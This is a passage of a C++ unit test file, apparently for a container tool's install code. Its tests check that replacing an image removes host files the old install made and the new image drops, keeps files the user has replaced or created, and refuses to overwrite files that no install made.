  ASSERT_TRUE(u.ok()) << u.error().message();
  EXPECT_TRUE(u->empty()) << u->front();
  EXPECT_FALSE(fs::exists(docs() + "/a.txt"));
  EXPECT_FALSE(fs::exists(docs() + "/b.txt"));
  EXPECT_FALSE(fs::exists(tmpfiles()));
}

// Host files the previous install made and the new image no longer has go
// with the replace; one the user has replaced since (another inode) stays,
// and the replace says so.
TEST_F(InstallReplace, HostFilesTheNewImageNoLongerHasAreRemoved) {
  make_image({{"a.txt", "a v1\n"}, {"b.txt", "b v1\n"}, {"c.txt", "c v1\n"}});
  ASSERT_TRUE(install_app(false).ok());
  // Written beside and renamed over it, as an editor saves: another inode
  // (a remove then a write could get the same inode number back).
  write_bytes(docs() + "/c.txt.new", "the user's own c\n");
  fs::rename(docs() + "/c.txt.new", docs() + "/c.txt");
  make_image({{"a.txt", "a v2\n"}});
  auto r = install_app(true);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(entries(docs()), (std::vector<std::string>{"a.txt", "c.txt"}));
  EXPECT_EQ(read_bytes(docs() + "/a.txt"), "a v2\n");
  EXPECT_EQ(read_bytes(docs() + "/c.txt"), "the user's own c\n");
  bool said = false;
  for (const auto& w : r->warnings) said = said || w.find(docs() + "/c.txt") != std::string::npos;
  EXPECT_TRUE(said) << "the replace did not say why it left c.txt";
  EXPECT_EQ(r->host_files, std::vector<std::string>{docs() + "/a.txt"});
  // And the new record is what uninstall goes by.
  ASSERT_TRUE(uninstall(ctx_, "app", true).ok());
  EXPECT_EQ(entries(docs()), std::vector<std::string>{"c.txt"});
}

// A file at a hostfs destination that no install of this box made is never
// overwritten: not at a first install, not by a replace whose new image
// adds it. The refusal names it; nothing changes.
TEST_F(InstallReplace, AFileInstallDidNotCreateIsNeverOverwritten) {
  write_bytes(docs() + "/a.txt", "mine\n");
  make_image({{"a.txt", "a v1\n"}});
  auto refused = install_app(false);
  ASSERT_FALSE(refused.ok());
  EXPECT_NE(refused.error().message().find(
                "hostfs/usr/share/appdoc/a.txt -> " + docs() +
                "/a.txt: the file exists and was not installed by box; remove it first"),
            std::string::npos)
      << refused.error().message();
  EXPECT_EQ(read_bytes(docs() + "/a.txt"), "mine\n");
  expect_nothing_left("app");

  fs::remove(docs() + "/a.txt");
  ASSERT_TRUE(install_app(false).ok());
  write_bytes(rootfs("app") + "/marker", "old");
  write_bytes(docs() + "/b.txt", "mine too\n");
  const HostSnapshot before = snapshot();
  make_image({{"a.txt", "a v2\n"}, {"b.txt", "b v2\n"}});
  auto replace = install_app(true);
  ASSERT_FALSE(replace.ok());
  EXPECT_NE(replace.error().message().find(docs() + "/b.txt: the file exists and was not "
                                                    "installed by box"),
            std::string::npos)
      << replace.error().message();
  EXPECT_EQ(snapshot(), before);
  EXPECT_EQ(read_bytes(docs() + "/b.txt"), "mine too\n");
}

}  // namespace
}  // namespace box::install
